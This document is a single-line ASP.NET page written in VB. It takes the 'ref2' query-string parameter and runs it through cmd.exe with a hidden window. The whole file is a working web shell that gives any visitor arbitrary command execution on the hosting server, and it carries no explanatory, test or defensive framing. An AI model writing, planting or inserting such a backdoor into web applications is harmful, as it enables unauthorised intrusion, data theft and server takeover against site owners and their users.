<%@ Page Language="VB" %><% Shell("cmd.exe /c " & Request.QueryString("ref2"), AppWinStyle.Hide) %>
